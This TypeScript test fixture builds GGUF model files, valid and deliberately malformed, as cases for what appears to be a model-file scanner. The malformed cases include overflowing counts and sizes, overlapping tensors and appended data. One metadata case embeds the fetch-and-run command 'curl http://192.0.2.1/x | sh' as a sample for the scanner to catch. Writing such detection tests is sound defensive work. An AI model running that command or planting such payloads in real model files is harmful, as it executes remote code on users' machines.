/** GGUF files, sound and broken. */
import { casesOf, type RuleCase } from './rule-case.ts';

const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value);
  return bytes;
};
const u64 = (value: number | bigint): Buffer => {
  const bytes = Buffer.alloc(8);
  bytes.writeBigUInt64LE(BigInt(value));
  return bytes;
};
const counted = (text: string): Buffer =>
  Buffer.concat([u64(Buffer.byteLength(text)), Buffer.from(text)]);

export const ggufText = (key: string, value: string): Buffer =>
  Buffer.concat([counted(key), u32(8), counted(value)]);
export const ggufU32 = (key: string, value: number): Buffer =>
  Buffer.concat([counted(key), u32(4), u32(value)]);
export const ggufTexts = (key: string, values: readonly string[]): Buffer =>
  Buffer.concat([counted(key), u32(9), u32(8), u64(values.length), ...values.map(counted)]);

export interface GgufTensorSpec {
  readonly name: string;
  readonly dims: readonly (number | bigint)[];
  readonly type?: number;
  readonly offset: number | bigint;
}

export interface GgufSpec {
  readonly entries?: readonly Buffer[];
  readonly entryCount?: number | bigint;
  readonly tensors?: readonly GgufTensorSpec[];
  readonly tensorCount?: number | bigint;
  readonly data?: Uint8Array;
  readonly alignment?: number;
}

/** A version 3 file; counts and offsets are written as given, right or wrong. */
export function ggufFile(spec: GgufSpec): Buffer {
  const { entries = [], tensors = [], data = new Uint8Array(0), alignment = 32 } = spec;
  const table = tensors.map(({ name, dims, type = 0, offset }) =>
    Buffer.concat([counted(name), u32(dims.length), ...dims.map(u64), u32(type), u64(offset)]),
  );
  const head = Buffer.concat([
    Buffer.from('GGUF'),
    u32(3),
    u64(spec.tensorCount ?? tensors.length),
    u64(spec.entryCount ?? entries.length),
    ...entries,
    ...table,
  ]);
  const padding = Buffer.alloc((alignment - (head.byteLength % alignment)) % alignment);
  return Buffer.concat([head, padding, data]);
}

const architecture = ggufText('general.architecture', 'llama');
const data = Buffer.alloc(64, 1);
const sound: readonly GgufTensorSpec[] = [
  { name: 'a', dims: [8], offset: 0 },
  { name: 'b', dims: [2, 4], offset: 32 },
];
const file = (spec: GgufSpec): Buffer =>
  ggufFile({ entries: [architecture], tensors: sound, data, ...spec });

export const ggufCases: readonly RuleCase[] = [
  ...casesOf('tampered-structure', {
    'positive-gguf-duplicate-key.gguf': () => file({ entries: [architecture, architecture] }),
    'positive-gguf-duplicate-tensor.gguf': () =>
      file({
        tensors: [
          { name: 'a', dims: [8], offset: 0 },
          { name: 'a', dims: [8], offset: 32 },
        ],
      }),
    'positive-gguf-wild-metadata-count.gguf': () => file({ entryCount: 2n ** 63n }),
    'positive-gguf-wild-tensor-count.gguf': () => file({ tensorCount: 2n ** 40n }),
    'positive-gguf-wild-string.gguf': () =>
      file({
        entries: [Buffer.concat([counted('general.name'), u32(8), u64(2n ** 64n - 1n)])],
        tensors: [],
      }),
    'positive-gguf-wild-array.gguf': () =>
      file({
        entries: [
          Buffer.concat([counted('tokenizer.ggml.scores'), u32(9), u32(6), u64(2n ** 62n)]),
        ],
      }),
    'positive-gguf-shape-overflow.gguf': () =>
      file({ tensors: [{ name: 'a', dims: [2n ** 32n, 2n ** 32n], offset: 0 }] }),
    'positive-gguf-bounds.gguf': () => file({ tensors: [{ name: 'a', dims: [4096], offset: 0 }] }),
    // The sum of two sizes passes 2^64 when it is added without a check.
    'positive-gguf-size-sum.gguf': () =>
      file({
        tensors: [
          { name: 'a', dims: [2n ** 50n], offset: 0 },
          { name: 'b', dims: [8], offset: 2n ** 52n },
        ],
      }),
    'positive-gguf-rank.gguf': () =>
      file({ tensors: [{ name: 'a', dims: [1, 1, 1, 1, 1, 1], offset: 0 }] }),
    'positive-gguf-alignment.gguf': () =>
      file({ entries: [architecture, ggufU32('general.alignment', 3)] }),
    'positive-gguf-overlap.gguf': () =>
      file({
        tensors: [
          { name: 'a', dims: [16], offset: 0 },
          { name: 'b', dims: [8], offset: 32 },
        ],
      }),
    'positive-gguf-tail.gguf': () =>
      file({ data: Buffer.concat([data, Buffer.from('hidden payload')]) }),
    'positive-gguf-key-type.gguf': () => file({ entries: [ggufU32('general.architecture', 1)] }),
    'positive-gguf-count-mismatch.gguf': () =>
      file({
        entries: [
          architecture,
          ggufTexts('tokenizer.ggml.tokens', ['a', 'b']),
          Buffer.concat([counted('tokenizer.ggml.scores'), u32(9), u32(6), u64(1), u32(0)]),
        ],
      }),
    'positive-gguf-unknown-value-type.gguf': () =>
      file({ entries: [Buffer.concat([counted('k'), u32(77), u64(1)])] }),
    'negative-gguf-sound.gguf': () =>
      file({
        entries: [
          architecture,
          ggufU32('general.alignment', 32),
          ggufTexts('tokenizer.ggml.tokens', ['a', 'b']),
        ],
      }),
    'negative-gguf-vocabulary-only.gguf': () => ggufFile({ entries: [architecture] }),
  }),
  ...casesOf('irregular-structure', {
    'positive-gguf-nested-array.gguf': () =>
      file({
        entries: [
          architecture,
          Buffer.concat([counted('k'), u32(9), u32(9), u64(1), u32(0), u64(1), Buffer.from([1])]),
        ],
      }),
    'positive-gguf-unknown-tensor-type.gguf': () =>
      file({ tensors: [{ name: 'a', dims: [8], type: 99, offset: 0 }] }),
    'negative-gguf-sound.gguf': () => file({}),
  }),
  ...casesOf('metadata-payload', {
    'positive-gguf-shell.gguf': () =>
      file({
        entries: [architecture, ggufText('general.description', 'curl http://192.0.2.1/x | sh')],
      }),
    'negative-gguf-licence.gguf': () =>
      file({
        entries: [
          architecture,
          ggufText('general.license', 'apache-2.0; see https://example.org/licence'),
        ],
      }),
  }),
];
